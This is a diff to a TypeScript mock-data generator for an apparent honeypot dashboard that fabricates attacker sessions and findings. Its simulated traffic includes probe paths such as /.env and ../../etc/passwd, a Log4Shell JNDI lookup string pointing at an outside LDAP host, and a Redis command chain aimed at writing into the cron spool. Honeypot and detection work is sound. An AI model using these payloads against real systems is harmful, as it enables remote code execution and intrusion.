@@ -21,7 +21,8 @@ export const iso = (ms: number) => new Date(ms).toISOString()
 
 type Service = Decky['services'][number]
 
-function service(name: string, port: number, state: Service['state'], error: string | null = null): Service {
+function service(name: string, state: Service['state'], error: string | null = null): Service {
+  const port = name === 'http' ? 80 : 6379
   const bound = state === 'open' ? port : null
   return { name, state, error, listens: [{ transport: 'tcp', port, bound_port: bound }], port: bound }
 }
@@ -39,7 +40,7 @@ function decky(name: string, address: string, more: Partial<Decky>): Decky {
     detail: '',
     revision: 1,
     running_revision: 1,
-    services: [service('http', 80, 'open')],
+    services: [service('http', 'open')],
     created: iso(Date.now() - 6 * 86_400_000),
     updated: iso(Date.now() - 5_000_000),
     ...more,
@@ -52,17 +53,21 @@ const half: Partial<Decky> = {
   detail: 'redis does not listen',
   revision: 4,
   running_revision: 3,
-  services: [service('http', 80, 'open'), service('redis', 6379, 'failed', 'address already in use')],
+  services: [service('http', 'open'), service('redis', 'failed', 'address already in use')],
 }
-const cache: Partial<Decky> = { archetype: 'cache-server', services: [service('redis', 6379, 'open')] }
+const cache: Partial<Decky> = { archetype: 'cache-server', services: [service('redis', 'open')] }
 
 export const world = {
   deckies: [
     decky('web-01', '127.66.12.2', {}),
     decky('linux-01', '127.66.12.3', half),
     decky('cache-01', '127.66.12.4', cache),
-    decky('cache-02', '127.66.12.5', { ...cache, state: 'pending', running_revision: null, services: [service('redis', 6379, 'pending')] }),
-    decky('web-02', '127.66.12.6', { state: 'failed', detail: 'the sensor does not start', services: [service('http', 80, 'failed', 'sensor ended with code 1')] }),
+    decky('cache-02', '127.66.12.5', { ...cache, state: 'pending', running_revision: null, services: [service('redis', 'pending')] }),
+    decky('web-02', '127.66.12.6', {
+      state: 'failed',
+      detail: 'the sensor does not start',
+      services: [service('http', 'failed', 'sensor ended with code 1')],
+    }),
   ],
   attackers: [] as Attacker[],
   sessions: [] as Session[],
@@ -106,7 +111,17 @@ function add(doing: Doing, kind: EventKindName, facts: EventRow['facts']): Event
   return event
 }
 
-const paths = ['/', '/admin', '/login', '/.env', '/wp-login.php', '/cgi-bin/luci/;stok=/locale?form=country', '/../../etc/passwd', '/?x=\u202egnp.sh', '/solr/admin/info/system']
+const paths = [
+  '/',
+  '/admin',
+  '/login',
+  '/.env',
+  '/wp-login.php',
+  '/cgi-bin/luci/;stok=/locale?form=country',
+  '/../../etc/passwd',
+  '/?x=\u202egnp.sh',
+  '/solr/admin/info/system',
+]
 const redisChain = [
   'INFO server',
   'CONFIG SET dir /var/spool/cron',
@@ -129,7 +144,7 @@ function talkHttp(doing: Doing): void {
       host: '127.66.12.2',
       headers: [
         ['Host', '127.66.12.2'],
-        ['X-Forwarded-For', '${jndi:ldap://203.0.113.7:1389/a}'],
+        ['X-Forwarded-For', `$${'{jndi:ldap://203.0.113.7:1389/a}'}`],
       ],
       status: target === '/' ? 200 : 404,
       body_size: 0,
@@ -142,11 +157,23 @@ function talkRedis(doing: Doing): void {
   if (random() < 0.3) tryCredentials(doing, 'password')
   for (const command of redisChain.slice(0, 1 + Math.floor(random() * redisChain.length))) {
     const failed = random() < 0.2
-    add(doing, 'command.ran', { language: 'redis', command, outcome: failed ? 'error' : 'ok', ...(failed ? { error: 'ERR unknown command' } : {}) })
+    add(doing, 'command.ran', {
+      language: 'redis',
+      command,
+      outcome: failed ? 'error' : 'ok',
+      ...(failed ? { error: 'ERR unknown command' } : {}),
+    })
     doing.session.command_count++
   }
   if (random() < 0.4) {
-    add(doing, 'file.captured', { sha256: hex(64), size: Math.floor(200 + random() * 9_000), name: '/var/spool/cron/root', mime: 'application/x-redis-dump', how: 'written', complete: true })
+    add(doing, 'file.captured', {
+      sha256: hex(64),
+      size: Math.floor(200 + random() * 9_000),
+      name: '/var/spool/cron/root',
+      mime: 'application/x-redis-dump',
+      how: 'written',
+      complete: true,
+    })
     doing.session.file_count++
   }
 }
@@ -206,7 +233,16 @@ function attackerAt(ip: string, time: string, where: Decky): Attacker {
 }
 
 function announce(topic: Finding['topic'], time: string, payload: Finding['payload']): void {
-  world.findings.unshift({ seq: world.findings.length + 1, id: uuid(), analyzer: 'profile', topic, title: topic, subject: String(payload.attacker_uuid), time, payload })
+  world.findings.unshift({
+    seq: world.findings.length + 1,
+    id: uuid(),
+    analyzer: 'profile',
+    topic,
+    title: topic,
+    subject: String(payload.attacker_uuid),
+    time,
+    payload,
+  })
 }
 
 /** One session of some attacker at that time; returns its events. */
@@ -241,7 +277,12 @@ export function happen(at: number, left = true): EventRow[] {
   if (spoken.name === 'http') talkHttp(doing)
   else talkRedis(doing)
   if (left) {
-    const closed = add(doing, 'connection.closed', { reason: 'peer', duration_ms: doing.at - at, bytes_in: session.bytes_in, bytes_out: session.bytes_out })
+    const closed = add(doing, 'connection.closed', {
+      reason: 'peer',
+      duration_ms: doing.at - at,
+      bytes_in: session.bytes_in,
+      bytes_out: session.bytes_out,
+    })
     Object.assign(session, { ended: closed.time, close_reason: 'peer' })
   }
   world.sessions.unshift(session)
@@ -262,6 +303,12 @@ function settle(attacker: Attacker, session: Session, fresh: readonly EventRow[]
   const reached = session.file_count ? 5 : session.command_count ? 4 : accepted ? 3 : session.credential_count ? 2 : 1
   attacker.depth = order[Math.max(reached, order.indexOf(attacker.depth ?? 'connected'))] ?? 'connected'
   if (accepted) {
-    announce('credential.captured', accepted.time, { attacker_uuid: attacker.uuid, ip: attacker.ip, decky: session.decky, service: session.service, principal: accepted.facts.principal })
+    announce('credential.captured', accepted.time, {
+      attacker_uuid: attacker.uuid,
+      ip: attacker.ip,
+      decky: session.decky,
+      service: session.service,
+      principal: accepted.facts.principal,
+    })
   }
 }
